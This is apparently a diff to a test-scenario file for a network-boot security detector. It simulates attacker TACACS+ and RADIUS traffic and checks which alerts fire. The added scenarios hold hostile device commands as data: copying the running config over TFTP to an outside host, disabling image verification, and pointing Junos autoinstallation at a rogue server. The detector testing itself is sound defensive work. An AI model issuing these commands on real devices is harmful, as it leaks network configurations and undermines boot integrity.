@@ -5,7 +5,7 @@ from __future__ import annotations
 import dataclasses
 
 from bootwarden.scenarios.model import Expect, Notice, scenario
-from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, ROGUE
+from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, OUTSIDE, ROGUE
 from bootwarden.traffic import radius, tacacs
 from bootwarden.traffic.wire import Wire
 
@@ -62,6 +62,51 @@ def bw07_tacacs_in_clear(wire: Wire) -> None:
     device = tacacs.Device(wire, DEVICE, AAA)
     device.authorize(f"boot system {EVIL}", source=ATTACKER, mss=200)
     device.close()
+
+
+@scenario(
+    "BW05",
+    "malicious",
+    raises=[
+        ("BW05", 1542007451, DEVICE, AAA),
+        ("BW18", 1542007452, "10.0.1.2", AAA),
+        ("BW27", 1542007453, "10.0.1.3", AAA),
+    ],
+    # Who typed it, a rule cannot tell: administrators are declared, who may reload.
+    raises_with_site=[("BW18", 1542007452, "10.0.1.2", AAA)],
+    site=HQ,
+    with_site=Expect(
+        (
+            RELOAD,
+            Notice("Config_Exfiltration", "10.0.1.2", OUTSIDE, "stolen-confg"),
+            Notice("Boot_Integrity_Lowered", "10.0.1.3"),
+        )
+    ),
+)
+def bw05_tacacs_in_clear(wire: Wire) -> None:
+    """Devices without a key ask leave to reload, account for a copy sent away, and are to check images no more."""
+    asking = tacacs.Device(wire, DEVICE, AAA)
+    asking.authorize("reload", source=ATTACKER)
+    asking.close()
+    telling = tacacs.Device(wire, "10.0.1.2", AAA)
+    telling.account(f"copy running-config tftp://{OUTSIDE}/stolen-confg", source=ATTACKER)
+    telling.close()
+    lowered = tacacs.Device(wire, "10.0.1.3", AAA)
+    lowered.authorize("no file verify auto", source=ATTACKER)
+    lowered.close()
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    raises=[("BW07", 1542007401, DEVICE, AAA)],
+    site=HQ,
+    with_site=Expect((BOOT,)),
+)
+def bw07_radius_junos_change(wire: Wire) -> None:
+    """Junos accounts for a change of its configuration that names a rogue server."""
+    change = radius.of_vendor(radius.JUNIPER, 9, f"set system autoinstallation configuration-servers {EVIL}")
+    radius.account(wire, DEVICE, AAA, change, source=ATTACKER)
 
 
 @scenario("BW07", "benign", site=KEYED, with_site=Expect())
